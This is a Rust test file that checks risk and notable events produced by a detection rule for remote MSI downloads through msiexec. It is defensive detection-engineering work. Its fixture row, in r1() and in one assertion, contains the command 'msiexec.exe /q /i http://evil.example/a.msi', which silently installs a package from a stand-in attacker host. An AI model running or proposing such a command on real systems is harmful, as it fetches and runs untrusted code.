//! Spec CV-32: the risk events and notable Enterprise Security raises for row R1 of the seed.

use cimhunt_content::embedded_default;
use cimhunt_report::{AlertContext, notable_event, risk_events};
use cimhunt_spl::{Row, Sym, Timestamp, Value};
use serde_json::{Value as Json, json};

fn r1() -> Row {
    let mut row = Row::from_texts(&[
        ("dest", "win-dc-6764986.attackrange.local"),
        ("user", "Administrator"),
        ("parent_process_name", "cmd.exe"),
        ("process_name", "msiexec.exe"),
        ("original_file_name", "msiexec.exe"),
        ("process", "msiexec.exe /q /i http://evil.example/a.msi"),
        ("process_id", "2296"),
        ("parent_process_id", "4624"),
    ]);
    row.set(Sym::new("count"), Value::num(1.0));
    row.set(Sym::new("firstTime"), Value::str("2020-10-08T11:03:46"));
    row.set(Sym::new("lastTime"), Value::str("2020-10-08T11:03:46"));
    row
}

fn context() -> AlertContext {
    let (detection, _) = embedded_default();
    AlertContext::new(
        &detection,
        Timestamp::parse_epoch_secs("1764324198.5").unwrap(),
    )
}

#[test]
fn cv32_one_risk_event_per_risk_object() {
    let events: Vec<Json> = risk_events(&context(), &r1())
        .iter()
        .map(|e| serde_json::from_str(e).unwrap())
        .collect();
    assert_eq!(events.len(), 2);
    let objects: Vec<(&str, &str)> = events
        .iter()
        .map(|e| {
            (
                e["risk_object"].as_str().unwrap(),
                e["risk_object_type"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        objects,
        [
            ("Administrator", "user"),
            ("win-dc-6764986.attackrange.local", "system")
        ]
    );
    let message = "An instance of cmd.exe spawning msiexec.exe was identified on endpoint \
                   win-dc-6764986.attackrange.local by user Administrator attempting to download a remote file.";
    for e in &events {
        assert_eq!(e["risk_score"], json!(35));
        assert_eq!(e["risk_message"], json!(message));
        assert!(!e["risk_message"].as_str().unwrap().contains('$'));
        assert_eq!(e["threat_object"], json!(["cmd.exe", "msiexec.exe"]));
        assert_eq!(e["threat_object_type"], json!(["process", "process"]));
        assert_eq!(
            e["search_name"],
            json!("ESCU - Windows MSIExec Remote Download - Rule")
        );
        assert_eq!(
            e["analyticstories"],
            json!(["Windows System Binary Proxy Execution MSIExec"])
        );
        assert_eq!(e["annotations"]["mitre_attack"], json!(["T1218.007"]));
        assert_eq!(
            e["annotations"]["mitre_attack.mitre_tactic"],
            json!(["Defense Evasion"])
        );
        assert_eq!(
            e["annotations"]["kill_chain_phases"],
            json!(["Exploitation"])
        );
        assert_eq!(
            e["process"],
            json!("msiexec.exe /q /i http://evil.example/a.msi")
        );
        assert_eq!(e["count"], json!(1));
        assert_eq!(e["_time"], json!(1764324198.5));
    }
    let field = events[0]["risk_object_field"].as_str().unwrap();
    let search = events[0]["contributing_events_search"].as_str().unwrap();
    assert_eq!(field, "user");
    assert!(
        search.ends_with(r#"| search user="Administrator""#),
        "{search}"
    );
}

#[test]
fn cv32_notable_per_row() {
    let notable: Json = serde_json::from_str(&notable_event(&context(), &r1())).unwrap();
    assert_eq!(
        notable["rule_title"],
        json!("Windows MSIExec Remote Download")
    );
    assert_eq!(notable["security_domain"], json!("endpoint"));
    assert_eq!(notable["severity"], json!("low"));
    assert_eq!(notable["risk_score"], json!(35));
    assert_eq!(notable["dest"], json!("win-dc-6764986.attackrange.local"));
}

#[test]
fn a_row_without_a_risk_object_value_raises_no_event_for_it() {
    let mut row = r1();
    row.set(Sym::new("user"), Value::Null);
    let events = risk_events(&context(), &row);
    assert_eq!(events.len(), 1);
    assert!(events[0].contains("\"risk_object_type\":\"system\""));
}

/// A 4.x detection whose observables name no victim has no risk objects, but still a risk score
/// (confidence × impact / 100); the notable carried 0 while its severity came from the score.
#[test]
fn notable_risk_score_is_the_detections_when_no_risk_object_names_it() {
    let (mut detection, _) = embedded_default();
    detection.rba = None;
    detection.tags.observable.clear();
    detection.tags.confidence = Some(80);
    detection.tags.impact = Some(90);
    let ctx = AlertContext::new(&detection, Timestamp::parse_epoch_secs("0").unwrap());
    assert!(ctx.rba.risk_objects.is_empty());
    let notable: Json = serde_json::from_str(&notable_event(&ctx, &r1())).unwrap();
    assert_eq!(notable["risk_score"], json!(72));
    assert_eq!(notable["severity"], json!("high"));
}

/// Row columns named like the notable's own fields must not give the object a second key.
#[test]
fn row_columns_named_like_notable_fields_are_not_copied() {
    let mut row = r1();
    row.set(Sym::new("severity"), Value::str("from the row"));
    row.set(Sym::new("rule_title"), Value::str("from the row"));
    let text = notable_event(&context(), &row);
    assert_eq!(text.matches("\"severity\":").count(), 1, "{text}");
    assert_eq!(text.matches("\"rule_title\":").count(), 1, "{text}");
    let notable: Json = serde_json::from_str(&text).unwrap();
    assert_eq!(notable["severity"], json!("low"));
}
